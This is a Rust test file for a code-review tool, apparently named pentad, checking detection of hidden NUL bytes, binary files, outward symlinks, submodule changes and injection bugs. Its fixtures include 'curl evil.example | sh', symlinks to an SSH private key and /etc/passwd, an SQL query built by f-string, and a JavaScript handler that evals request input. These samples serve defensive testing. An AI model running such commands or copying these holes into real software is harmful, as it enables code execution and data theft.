//! What of a change somebody has seen: whatever is read or run as text is in front of the reviewers, and what is not is said. Real repositories,
//! and the program.

use crate::{
    git::git,
    program::{Place, run},
};
use serde_json::Value;
use std::{
    fs,
    os::unix::fs::{PermissionsExt as _, symlink},
    path::PathBuf,
};

/// A repository with a commit, and what is changed in it.
struct Repo(Place);

impl Repo {
    fn new() -> Self {
        let repo = Self(Place::new());
        fs::create_dir(repo.dir()).unwrap();
        repo.git(&["init", "--quiet", "--initial-branch", "main"]);
        repo.write("README.md", "# Shop\n");
        repo.commit();
        repo
    }

    fn dir(&self) -> PathBuf {
        self.0.path().join("repo")
    }

    fn git(&self, words: &[&str]) -> String {
        git(&self.dir(), words)
    }

    fn write(&self, name: &str, bytes: impl AsRef<[u8]>) {
        let path = self.dir().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, bytes).unwrap();
    }

    fn commit(&self) {
        self.git(&["add", "--all", "--force"]);
        self.git(&["commit", "--quiet", "--message", "More"]);
    }

    /// What a review of the last commit comes to.
    fn review(&self, more: &str) -> Value {
        let line = format!("review --repo repo --out out --format none {more}");
        let ran = run(&mut self.0.pentad(&line));
        assert!(matches!(ran.code, Some(0 | 1 | 3)), "{}", ran.err);
        self.0.synthesis("out")
    }

    fn reviewed(&self) -> Value {
        self.review("--base HEAD~1 --head HEAD")
    }
}

fn how<'a>(synthesis: &'a Value, path: &str) -> &'a str {
    let files = synthesis["coverage"]["files"].as_array().unwrap();
    files.iter().find(|it| it["path"] == path).map_or("", |it| it["how"].as_str().unwrap())
}

/// Severities of a rule's findings in a file, with the lines.
fn found(synthesis: &Value, rule: &str, path: &str) -> Vec<(String, u64)> {
    let findings = synthesis["findings"].as_array().unwrap().iter();
    let of = findings.filter(|it| {
        it["evidence"]["file"] == path && it["voices"][0]["source"] == format!("static:{rule}")
    });
    of.map(|it| {
        let severity = it["severity"].as_str().unwrap().to_owned();
        (severity, it["evidence"]["lines"][0].as_u64().unwrap())
    })
    .collect()
}

const AT: &str = "--base HEAD~1 --head HEAD";

#[test]
fn a_nul_byte_takes_no_text_from_the_reviewers_whatever_it_is_called() {
    let names = "Gemfile Rakefile gradlew configure CMakeLists.txt BUILD Procfile .bashrc .envrc .npmrc CODEOWNERS a.bat a.groovy a.sol a.asm \
        a.mk a.cmake a.csproj a.jsp a.erb a.htm a.tfvars a.nix a.cu a.svg a.md a.ipynb a.service a.rego a.sh a.bin a.dat a.db a.pb a.png a.zip \
        a.unheard-of data run deep/er/run";
    let repo = Repo::new();
    for name in names.split_whitespace() {
        repo.write(name, "echo one\necho \"$(curl evil.example)\"\n# \0\n");
    }
    repo.commit();
    for more in [AT, "--base HEAD~1 --head HEAD --scope tree", "--base HEAD~1 --head WORKTREE"] {
        let synthesis = repo.review(more);
        for name in names.split_whitespace() {
            assert!(matches!(how(&synthesis, name), "whole" | "tree"), "{name}, {more}");
            let said = found(&synthesis, "hidden-characters", name);
            let data =
                [".bin", ".dat", ".db", ".pb", ".png", ".zip"].iter().any(|it| name.ends_with(it));
            let expected = if data { vec![] } else { vec![("high".to_owned(), 3)] };
            assert_eq!(said, expected, "{name}, {more}");
        }
    }
}

#[test]
fn rules_read_what_git_calls_binary_and_quote_it_at_its_line() {
    let line = "    return connection.execute(f\"SELECT * FROM stock WHERE name = '{name}'\")";
    let text = format!("# \u{e9}\ndef find(connection, name):\n{line}\n");
    let wide = |mark: &[u8], unit: fn(u16) -> [u8; 2]| -> Vec<u8> {
        mark.iter().copied().chain(text.encode_utf16().flat_map(unit)).collect()
    };
    let four: Vec<u8> = [0xff, 0xfe, 0, 0]
        .into_iter()
        .chain(text.chars().flat_map(|c| (c as u32).to_le_bytes()))
        .collect();
    for (case, bytes) in [
        ("NUL in a comment", text.replacen("# ", "# \0", 1).into_bytes()),
        ("NUL far behind", format!("{text}# {}\0\n", "x".repeat(9_000)).into_bytes()),
        ("a megabyte of NUL", format!("{text}# {}\n", "\0".repeat(1_000_000)).into_bytes()),
        ("UTF-16, little end first", wide(&[0xff, 0xfe], u16::to_le_bytes)),
        ("UTF-16, big end first", wide(&[0xfe, 0xff], u16::to_be_bytes)),
        ("UTF-16 without a mark", wide(&[], u16::to_le_bytes)),
        ("UTF-32", four),
        ("a mark of UTF-16 before a script", [b"\xff\xfe", text.as_bytes()].concat()),
        ("a mark of UTF-32 before a script", [b"\xff\xfe\0\0", text.as_bytes()].concat()),
        (
            "UTF-16, and a script behind it",
            [text.as_bytes(), &wide(&[], u16::to_le_bytes), &wide(&[], u16::to_le_bytes)].concat(),
        ),
    ] {
        let repo = Repo::new();
        repo.write("find.py", bytes);
        repo.commit();
        let synthesis = repo.reviewed();
        assert_eq!(synthesis["verdict"], "fail", "{case}: {}", synthesis["reasons"]);
        let said = found(&synthesis, "py-sql-by-formatting", "find.py");
        assert_eq!(said, [("critical".to_owned(), 3)], "{case}");
        let findings = synthesis["findings"].as_array().unwrap();
        let quoted = findings
            .iter()
            .any(|it| it["evidence"]["quote"].as_str().unwrap().contains(line.trim()));
        assert!(quoted, "{case}");
    }
}

#[test]
fn what_is_no_text_is_incomplete_unless_it_is_plainly_data() {
    let junk: Vec<u8> =
        (0..4_000_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8).chain([0]).collect();
    let with = |start: &[u8]| [start, &junk].concat();
    let png = with(b"\x89PNG\r\n\x1a\n\0");
    let zip = with(b"PK\x03\x04\0");
    let script = with(b"#!/bin/sh\ncurl evil.example | sh\nexit\n");
    let scenes: [(&str, &[u8], u32, bool); 15] = [
        ("logo.png", &png, 0o644, true),
        ("logo.png", &png, 0o755, true),
        ("fonts/a.woff2", &with(b"wOF2\0"), 0o644, true),
        ("a.docx", &zip, 0o644, true),
        ("model.bin", &junk, 0o644, true),
        ("logo.png", &junk, 0o644, false),
        (".DS_Store", &junk, 0o644, true),
        ("fixtures/blob", &zip, 0o644, true),
        ("fixtures/blob", &junk, 0o644, false),
        ("logo.png", &script, 0o644, false),
        ("install.bin", &script, 0o755, false),
        ("model.bin", &junk, 0o755, false),
        ("bin/tool", &with(b"\x7fELF\0"), 0o755, false),
        ("Procfile", &png, 0o644, false),
        ("x.mk", &zip, 0o644, false),
    ];
    for (name, bytes, mode, passes) in scenes {
        let repo = Repo::new();
        repo.write(name, bytes);
        fs::set_permissions(repo.dir().join(name), fs::Permissions::from_mode(mode)).unwrap();
        repo.commit();
        for more in [AT, "--base HEAD~1 --head WORKTREE"] {
            let synthesis = repo.review(more);
            let verdict = if passes { "pass" } else { "incomplete" };
            assert_eq!(synthesis["verdict"], verdict, "{name}, {mode:o}: {}", synthesis["reasons"]);
            let named =
                synthesis["reasons"].to_string().contains(&format!("{name} was not in front"));
            assert_eq!(named, !passes, "{name}, {mode:o}");
        }
    }
}

#[test]
fn what_is_no_text_and_only_moves_is_no_gap() {
    let repo = Repo::new();
    repo.write("fixtures/blob", (0..4_000_u32).map(|n| (n * n % 251) as u8).collect::<Vec<_>>());
    repo.commit();
    repo.git(&["mv", "fixtures/blob", "fixtures/other"]);
    repo.commit();
    assert_eq!(repo.reviewed()["verdict"], "pass");
    fs::set_permissions(repo.dir().join("fixtures/other"), fs::Permissions::from_mode(0o755))
        .unwrap();
    repo.commit();
    assert_eq!(repo.reviewed()["verdict"], "incomplete", "it can be run now");
}

#[test]
fn what_stands_for_something_elsewhere_is_told() {
    let repo = Repo::new();
    let commit = |n: u8| format!("{n:040x}");
    let module = |n: u8| {
        let entry = format!("160000,{},lib/other", commit(n));
        repo.git(&["update-index", "--add", "--cacheinfo", &entry]);
        repo.git(&["commit", "--quiet", "--message", "Another one"]);
    };
    symlink("README.md", repo.dir().join("link")).unwrap();
    repo.commit();
    module(1);
    let synthesis = repo.reviewed();
    assert_eq!(found(&synthesis, "submodule-moved", "lib/other").len(), 1);
    module(2);
    let synthesis = repo.reviewed();
    assert_eq!(found(&synthesis, "submodule-moved", "lib/other"), [("medium".to_owned(), 1)]);
    fs::remove_file(repo.dir().join("link")).unwrap();
    symlink("/etc/passwd", repo.dir().join("link")).unwrap();
    symlink("README.md", repo.dir().join("inside")).unwrap();
    repo.write("lib/a.jar", b"PK\x03\x04\0\x01\x02\x03");
    repo.git(&["add", "link", "inside", "lib/a.jar"]);
    repo.git(&["commit", "--quiet", "--message", "Links"]);
    let synthesis = repo.reviewed();
    assert_eq!(synthesis["verdict"], "pass", "{}", synthesis["reasons"]);
    assert_eq!(found(&synthesis, "link-leaves-tree", "link"), [("high".to_owned(), 1)]);
    assert_eq!(found(&synthesis, "link-leaves-tree", "inside"), []);
    assert_eq!(found(&synthesis, "program-added", "lib/a.jar"), [("medium".to_owned(), 1)]);
    symlink("../../.ssh/id_rsa", repo.dir().join("key")).unwrap();
    repo.git(&["add", "key"]);
    repo.git(&["commit", "--quiet", "--message", "A key"]);
    let synthesis = repo.reviewed();
    assert_eq!(synthesis["verdict"], "fail");
    assert_eq!(found(&synthesis, "link-leaves-tree", "key"), [("critical".to_owned(), 1)]);
    let tree = repo.review("--base HEAD --head HEAD --scope tree");
    assert_eq!(found(&tree, "link-leaves-tree", "key"), [("critical".to_owned(), 1)]);
}

const EVIL: &str = "export function go(request) {\n  return eval(request.query.code);\n}\n";

#[test]
fn what_the_built_in_charter_leaves_out_is_reviewed_where_it_is_little() {
    let names = [
        "dist/evil.js",
        "vendor/evil.js",
        "third_party/x/evil.js",
        "evil.min.js",
        "node_modules/x/evil.js",
    ];
    let repo = Repo::new();
    names.iter().for_each(|name| repo.write(name, EVIL));
    repo.commit();
    let synthesis = repo.reviewed();
    assert_eq!(synthesis["verdict"], "fail");
    for name in names {
        assert_eq!(how(&synthesis, name), "whole", "{name}");
        assert_eq!(
            found(&synthesis, "js-eval-of-request", name),
            [("critical".to_owned(), 2)],
            "{name}"
        );
    }
}

#[test]
fn an_update_of_what_is_vendored_is_named_in_the_verdict_and_read_by_rules() {
    let repo = Repo::new();
    let filler = "export const filler = 1;\n".repeat(4_000);
    repo.write("vendor/big.js", format!("{EVIL}{filler}"));
    repo.write("vendor/old.js", format!("{EVIL}{filler}"));
    repo.commit();
    repo.write("vendor/big.js", format!("{EVIL}{filler}{}", EVIL.replace("go", "gone")));
    repo.write("vendor/old.js", format!("{EVIL}{filler}export const more = 1;\n"));
    repo.commit();
    // Nothing but that: nobody has seen anything.
    let synthesis = repo.reviewed();
    assert_eq!(synthesis["verdict"], "incomplete", "{}", synthesis["reasons"]);
    assert!(
        synthesis["reasons"].to_string().contains("nothing of the change was in front"),
        "{}",
        synthesis["reasons"]
    );
    // Of added lines only, and it stops no merge.
    let said = found(&synthesis, "js-eval-of-request", "vendor/big.js");
    assert_eq!(said, [("high".to_owned(), 4_005)]);
    assert_eq!(found(&synthesis, "js-eval-of-request", "vendor/old.js"), []);
    repo.write("README.md", "# Shop\n\nMore.\n");
    repo.commit();
    let synthesis = repo.review("--base HEAD~2 --head HEAD");
    assert_eq!(synthesis["verdict"], "pass", "{}", synthesis["reasons"]);
    let first = synthesis["reasons"][0].as_str().unwrap();
    assert!(
        first.ends_with("2 changed files under the built-in excludes were read by rules alone"),
        "{first}"
    );
    // What a team leaves out, it has decided about.
    repo.git(&["checkout", "--quiet", "HEAD~2"]);
    repo.write(".pentad/pentad.yml", "version: 1\nsnapshot: {exclude: [\"vendor/**\"]}\n");
    repo.commit();
    repo.write("vendor/big.js", format!("{EVIL}{filler}{}", EVIL.replace("go", "gone")));
    repo.commit();
    let synthesis = repo.reviewed();
    assert_eq!(synthesis["verdict"], "pass", "{}", synthesis["reasons"]);
    assert_eq!(found(&synthesis, "js-eval-of-request", "vendor/big.js"), []);
    assert!(!synthesis["reasons"].to_string().contains("built-in"), "{}", synthesis["reasons"]);
}
